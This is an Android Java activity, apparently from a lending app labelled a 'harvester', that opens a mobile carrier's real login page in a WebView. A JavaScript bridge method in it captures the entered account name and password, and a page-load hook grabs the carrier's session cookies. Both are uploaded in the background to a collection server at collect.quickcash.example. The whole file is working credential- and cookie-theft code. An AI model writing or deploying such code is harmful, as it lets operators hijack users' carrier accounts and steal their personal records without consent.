package com.example.quickcash.harvester;

import android.app.Activity;
import android.os.Bundle;
import android.util.Log;
import android.webkit.CookieManager;
import android.webkit.JavascriptInterface;
import android.webkit.WebView;
import android.webkit.WebViewClient;
import org.json.JSONException;
import org.json.JSONObject;

/**
 * Finding, credentials and carrier_records: shows the real login page of a carrier in a WebView with a
 * JavaScript bridge, then takes the session cookies of that other company.
 */
public class CarrierCrawlerActivity extends Activity {
    private static final String LOGIN_PAGE = "https://login.10086.cn/html/login/touch.html";

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        WebView page = new WebView(this);
        page.getSettings().setJavaScriptEnabled(true);
        page.addJavascriptInterface(new Bridge(), "android");
        page.setWebViewClient(new AfterLogin());
        setContentView(page);
        page.loadUrl(LOGIN_PAGE);
    }

    /** What a script in the carrier's page can call: hands over the account name and the password. */
    static final class Bridge {
        @JavascriptInterface
        public void saveAccountInfo(String account, String password) throws JSONException {
            JSONObject body = new JSONObject();
            body.put("account", account);
            body.put("pwd", password);
            upload("https://collect.quickcash.example/user/carrier_account", body);
        }
    }

    static final class AfterLogin extends WebViewClient {
        @Override
        public void onPageFinished(WebView view, String url) {
            String cookie = CookieManager.getInstance().getCookie("https://login.10086.cn/");
            try {
                JSONObject body = new JSONObject();
                body.put("site", url);
                body.put("cookie", cookie);
                upload("https://collect.quickcash.example/user/carrier_cookie", body);
            } catch (JSONException error) {
                Log.w("crawler", "no cookie");
            }
        }
    }

    private static void upload(final String address, final JSONObject body) {
        new Thread(
                        () -> {
                            try {
                                Uploader.postJson(address, body.toString());
                            } catch (java.io.IOException error) {
                                Log.w("crawler", "upload failed");
                            }
                        })
                .start();
    }
}
